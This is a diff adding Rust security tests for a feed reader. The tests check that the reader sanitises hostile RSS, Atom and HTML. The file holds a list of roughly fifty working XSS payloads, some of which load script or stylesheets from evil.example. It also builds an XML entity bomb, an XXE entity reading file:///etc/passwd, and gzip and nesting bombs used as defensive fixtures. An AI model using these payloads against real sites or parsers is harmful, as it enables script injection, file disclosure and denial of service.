@@ -1,1 +1,357 @@
-//! later
+//! Feeds and pages that mean harm.
+
+use super::bench::{Bench, HEAD, source};
+use super::papers::{HTML, RSS, item, page, rss, site};
+use super::web::texts;
+use offprint::newsstand::{Answer, compress};
+use scraper::{Html, Node};
+use serde_json::Value;
+use std::time::Duration;
+use tokio::time::Instant;
+
+/// Ways to run something in a reader's browser.
+const VECTORS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<script>alert(1)//",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x OnErRoR = 'alert(1)'>",
+    "<img/src=x/onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>t</text></a></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math href=\"javascript:alert(1)\">m</math>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<iframe sandbox srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
+    "<a href=\"javascript:alert(1)\">j</a>",
+    "<a href=\" jAvAsCrIpT:alert(1)\">j</a>",
+    "<a href=\"java\tscr\nipt:alert(1)\">j</a>",
+    "<a href=\"&#106;avascript&colon;alert(1)\">j</a>",
+    "<a href=\"\u{1}javascript:alert(1)\">j</a>",
+    "<a href=\"vbscript:msgbox(1)\">v</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
+    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+    "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
+    "<form action=\"https://evil.example/\"><input name=password><button formaction=\"javascript:alert(1)\">b</button></form>",
+    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
+    "<base href=\"https://evil.example/\">",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
+    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<p style=\"background:url(javascript:alert(1));position:fixed;top:0;width:100%\">s</p>",
+    "<div style=\"width:expression(alert(1))\">e</div>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
+    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]&gt;",
+    "]]&gt;&lt;/content&gt;<img src=x onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "<video src=x onloadstart=alert(1)><source onerror=alert(1)></video>",
+    "<details open ontoggle=alert(1)>t</details>",
+    "<input autofocus onfocus=alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<a href='https://a.example/' onclick=alert(1) target=_blank>o</a>",
+    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
+    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">t</table>",
+    "<plaintext><img src=x onerror=alert(1)>",
+];
+
+const FORBIDDEN: &[&str] = &[
+    "script",
+    "style",
+    "svg",
+    "math",
+    "form",
+    "object",
+    "embed",
+    "base",
+    "meta",
+    "link",
+    "iframe",
+    "noscript",
+    "textarea",
+    "xmp",
+    "title",
+    "plaintext",
+    "template",
+    "input",
+    "button",
+    "frame",
+    "frameset",
+    "applet",
+    "noembed",
+];
+
+/// What a browser could run or fetch in this piece of HTML; the frame of a page of ours may be excepted.
+fn harm(html: &str, excepted: &[&str]) -> Vec<String> {
+    let dom = if excepted.is_empty() { Html::parse_fragment(html) } else { Html::parse_document(html) };
+    let mut found = Vec::new();
+    for node in dom.tree.values() {
+        let element = match node {
+            Node::Element(element) => element,
+            Node::Comment(comment) => {
+                found.push(format!("<!--{}-->", &**comment));
+                continue;
+            }
+            _ => continue,
+        };
+        let name = element.name();
+        if FORBIDDEN.contains(&name) && !excepted.contains(&name) {
+            found.push(format!("<{name}>"));
+        }
+        for (key, value) in element.attrs() {
+            let plain: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
+            let plain = plain.to_ascii_lowercase();
+            let scheme = plain.split_once(':').map(|(scheme, _)| scheme);
+            let address = matches!(
+                key,
+                "href" | "src" | "cite" | "background" | "poster" | "data" | "action" | "longdesc"
+            );
+            let bad = key.starts_with("on")
+                || matches!(key, "srcdoc" | "formaction" | "xlink:href" | "ping")
+                || address && !matches!(scheme, Some("http" | "https" | "mailto"))
+                || key == "srcset" && (plain.contains("javascript") || plain.contains("data:"))
+                || key == "style"
+                    && (plain.contains("url(") || plain.contains("expression") || plain.contains("position"));
+            if bad {
+                found.push(format!("<{name} {key}={value:?}>"));
+            }
+        }
+    }
+    found
+}
+
+fn escape(text: &str) -> String {
+    let text: String = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).collect();
+    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
+}
+
+/// Each vector in every place of an item.
+fn poisoned(base: &str) -> String {
+    let one = |(n, vector): (usize, &&str)| {
+        let bad = escape(vector);
+        let text = format!("&lt;p&gt;before{n}&lt;/p&gt;{bad}&lt;p&gt;after{n}&lt;/p&gt;");
+        let cdata = format!("<p>whole{n}</p>{}", vector.replace("]]>", "").replace('\u{1}', ""));
+        let href = vector
+            .split("=\"")
+            .nth(1)
+            .and_then(|rest| rest.split('"').next())
+            .unwrap_or("javascript:alert(1)");
+        let place = if n % 2 == 0 { "description" } else { "content:encoded" };
+        let body = if n % 3 == 0 { format!("<![CDATA[{cdata}]]>") } else { text };
+        format!(
+            "<item><title>t{n} {bad}</title><link>{base}/a/{n}</link><guid isPermaLink=\"false\">{bad}{n}</guid>\
+             <author>{bad}</author><dc:creator xmlns:dc=\"http://purl.org/dc/elements/1.1/\">{bad}</dc:creator>\
+             <category>{bad}</category><comments>{0}</comments><enclosure url=\"{0}\" type=\"{bad}\" length=\"-1\"/>\
+             <{place}>{body}</{place}></item>",
+            escape(href)
+        )
+    };
+    VECTORS.iter().enumerate().map(one).collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn nothing_executable_gets_through() {
+    let origin = site(|seen| {
+        let base = format!("http://{}", seen.header("host").unwrap_or_default());
+        match seen.plain_path() {
+            "/robots.txt" => Answer::not_found(),
+            "/feed" => Answer::ok(RSS, rss(&poisoned(&base)).replace("The Heron", &escape(VECTORS[0]))),
+            path => {
+                let n: usize = path.rsplit('/').next().and_then(|n| n.parse().ok()).unwrap_or(0);
+                let vector = VECTORS.get(n).copied().unwrap_or_default();
+                let text = page(&format!("t{n} {}", escape(vector)), "in full");
+                Answer::ok(HTML, text.replacen("</p>", &format!("</p>{vector}"), 3))
+            }
+        }
+    })
+    .await;
+    let toml = source("feed", &origin.url("/feed"))
+        + &source("pages", &origin.url("/feed?pages"))
+        + "full_text = \"always\"\n";
+    for toml in [source("feed", &origin.url("/feed")), toml] {
+        let bench = Bench::new(&toml);
+        bench.run(&["fetch"]).await.good();
+        let daemon = bench.daemon().await;
+        let items = daemon.entries(VECTORS.len()).await;
+        let web = daemon.web();
+        let (atom, rss) = (web.get("/feed.atom", &[]).text(), web.get("/feed.rss", &[]).text());
+        let mut bodies: Vec<String> =
+            ["content", "summary"].iter().flat_map(|name| texts(&atom, name)).collect();
+        bodies.extend(["content:encoded", "description"].iter().flat_map(|name| texts(&rss, name)));
+        bodies.extend(items.iter().filter_map(|item| item["content_html"].as_str().map(str::to_owned)));
+        // Some readers take a title of RSS for HTML after one decoding.
+        bodies
+            .extend(["title", "dc:creator", "category", "source"].iter().flat_map(|name| texts(&rss, name)));
+        for body in &bodies {
+            assert_eq!(harm(body, &[]), Vec::<String>::new(), "{body}");
+        }
+        let kept = bodies.iter().filter(|body| body.contains("before") && body.contains("after")).count();
+        assert!(toml.contains("always") || kept > VECTORS.len(), "text around stays: {kept}");
+        let home = daemon.get("/").text();
+        assert_eq!(harm(&home, &["style", "meta", "title", "link"]), Vec::<String>::new());
+        assert_eq!(home.matches("<style").count(), 1);
+        assert_eq!(home.matches("<meta").count(), 2);
+        only_web_addresses(&items, &atom, &rss);
+        daemon.stop().await;
+    }
+}
+
+fn only_web_addresses(items: &[Value], atom: &str, rss: &str) {
+    for feed in [atom, rss] {
+        for attribute in ["href=\"", "url=\"", "src=\""] {
+            for rest in feed.split(attribute).skip(1) {
+                assert!(
+                    rest.starts_with("http://") || rest.starts_with("https://"),
+                    "{}",
+                    &rest[..rest.len().min(80)]
+                );
+            }
+        }
+    }
+    for link in ["link", "comments"].iter().flat_map(|name| texts(rss, name)) {
+        assert!(link.starts_with("http"), "{link}");
+    }
+    for item in items {
+        for key in ["url", "external_url", "image", "banner_image"] {
+            assert!(item[key].as_str().is_none_or(|url| url.starts_with("http")), "{item}");
+        }
+        for attachment in item["attachments"].as_array().into_iter().flatten() {
+            assert!(attachment["url"].as_str().unwrap().starts_with("http"), "{item}");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn characters_that_xml_has_not_never_come_out() {
+    let bad = "a\u{0}b\u{8}c&#0;d&#x1;e&#xFFFE;f\u{fffe}g\u{ffff}h&#xD800;i\u{7f}j\u{85}k";
+    let mut bytes = rss(&item("http://heron.example/1", bad, &format!("<author>{bad}</author><category>{bad}</category><description>{bad} &lt;p&gt;x&amp;#1;y\u{1f}z</description>")))
+        .into_bytes();
+    let at = bytes.windows(5).position(|w| w == b"a\0b\x08c").unwrap();
+    bytes.splice(at..at, *b"\xff\xfe\xc3(\x80");
+    let origin = site(move |_| Answer::ok(RSS, bytes.clone())).await;
+    let bench = Bench::new(&source("heron", &origin.url("/feed")));
+    bench.run(&["fetch"]).await.good();
+    for format in ["atom", "rss", "json", "jsonl", "markdown"] {
+        let out = bench.run(&["export", "--format", format]).await.good().out;
+        let wrong =
+            |c: char| c < ' ' && c != '\n' && c != '\t' || matches!(c, '\u{fffe}' | '\u{ffff}' | '\u{7f}');
+        assert!(!out.contains(wrong), "{format}: {out:?}");
+        for reference in
+            ["&#0;", "&#1;", "&#x1;", "\\u0000", "\\u0001", "\\u001f", "\\ud800", "&#xD800;", "\\ufffe"]
+        {
+            assert!(!out.contains(reference), "{format} {reference}: {out:?}");
+        }
+        if matches!(format, "atom" | "rss") {
+            assert!(texts(&out, "title").len() >= 2);
+        }
+        assert!(out.contains("http://heron.example/1"), "{format}: the entry is kept");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn hostile_pages_are_bounded_and_their_entries_kept() {
+    let origin = site(|seen| {
+        let base = format!("http://{}", seen.header("host").unwrap_or_default());
+        let text = page("Page", "in full");
+        let stuffed =
+            |stuff: String| Answer::ok(HTML, text.replace("<article>", &format!("<article>{stuff}")));
+        match seen.plain_path() {
+            "/robots.txt" => Answer::not_found(),
+            "/feed" => {
+                let names = ["divs", "bold", "attributes", "bomb", "large", "tables", "entities", "good"];
+                let one = |name: &&str| {
+                    item(&format!("{base}/{name}"), name, "<description>Teaser of the feed</description>")
+                };
+                Answer::ok(RSS, rss(&names.iter().map(one).collect::<String>()))
+            }
+            "/divs" => stuffed("<div>".repeat(100_000)),
+            "/bold" => stuffed("<b><i>x".repeat(10_000)),
+            "/attributes" => {
+                let attributes: String = (0..30_000).map(|n| format!(" a{n}=\"{n}\"")).collect();
+                stuffed(format!("<p{attributes}>"))
+            }
+            "/bomb" => Answer::ok(HTML, compress(&vec![b' '; 20 << 20])).header("content-encoding", "gzip"),
+            "/large" => stuffed("<p>word ".repeat(400_000)),
+            "/tables" => stuffed("<table><tr><td>".repeat(5_000)),
+            "/entities" => stuffed("&lt;".repeat(200_000)),
+            _ => Answer::ok(HTML, text),
+        }
+    })
+    .await;
+    let head = HEAD.replace("timeout = \"10s\"", "timeout = \"20s\"\nmax_page_size = \"2MiB\"");
+    let bench =
+        Bench::with(&format!("{head}{}full_text = \"always\"\n", source("heron", &origin.url("/feed"))));
+    let start = Instant::now();
+    bench.run(&["fetch"]).await.good();
+    assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
+    let entries = bench.entries().await;
+    assert_eq!(entries.len(), 8);
+    for entry in entries {
+        let html = entry["content_html"].as_str().unwrap();
+        assert!(
+            html.contains("Teaser of the feed") || html.contains("Paragraph 8") || html.len() > 20,
+            "{entry}"
+        );
+        if entry["title"] == "good" {
+            assert!(html.contains("Paragraph 8"), "{html}");
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
+async fn hostile_feeds_are_bounded_and_others_unaffected() {
+    let many: String =
+        (0..20_000).map(|n| item(&format!("http://heron.example/{n}"), &format!("Story {n}"), "")).collect();
+    let deep = rss(&item(
+        "http://heron.example/deep",
+        "Deep",
+        &format!("<description>{}</description>", "&lt;div&gt;".repeat(50_000)),
+    ));
+    let nested = "<rss><channel>".to_owned() + &"<a>".repeat(100_000);
+    let json =
+        format!("{{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":{}", "[".repeat(100_000));
+    let bomb = format!(
+        "<!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaa\">{}]><rss version=\"2.0\"><channel><title>&l9;</title></channel></rss>",
+        (0..10)
+            .map(|n| format!(
+                "<!ENTITY l{n} \"{}\">",
+                format!("&{};", if n == 0 { "a".to_owned() } else { format!("l{}", n - 1) }).repeat(10)
+            ))
+            .collect::<String>()
+    );
+    let outside = "<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>".to_owned()
+        + &rss(&item("http://heron.example/x", "x &x; y", ""));
+    let origin = site(move |seen| match seen.plain_path() {
+        "/many" => Answer::ok(RSS, rss(&many)),
+        "/deep" => Answer::ok(RSS, deep.clone()),
+        "/nested" => Answer::ok(RSS, nested.clone()),
+        "/json" => Answer::ok("application/feed+json", json.clone()),
+        "/bomb" => Answer::ok(RSS, bomb.clone()),
+        "/outside" => Answer::ok(RSS, outside.clone()),
+        "/zip" => Answer::ok(RSS, compress(&vec![b' '; 40 << 20])).header("content-encoding", "gzip"),
+        _ => Answer::ok(RSS, rss(&item("http://heron.example/good", "Good", ""))),
+    })
+    .await;
+    let names = ["many", "deep", "nested", "json", "bomb", "outside", "zip", "good"];
+    let bench = Bench::new(&names.map(|id| source(id, &origin.url(&format!("/{id}")))).concat());
+    let start = Instant::now();
+    let ran = bench.run(&["fetch"]).await.good();
+    assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
+    assert!(ran.err.contains("zip: failed: "), "{}", ran.err);
+    for id in ["json", "nested"] {
+        assert!(ran.err.contains(&format!("{id}: incomplete")), "{id}: {}", ran.err);
+    }
+    let entries = bench.entries().await;
+    let titled = |title: &str| {
+        entries.iter().any(|entry| entry["title"].as_str().is_some_and(|t| t.starts_with(title)))
+    };
+    assert!(titled("Good") && titled("Deep") && titled("Story"), "{}", ran.err);
+    assert!(!serde_json::to_string(&entries).unwrap().contains("root:"));
+}
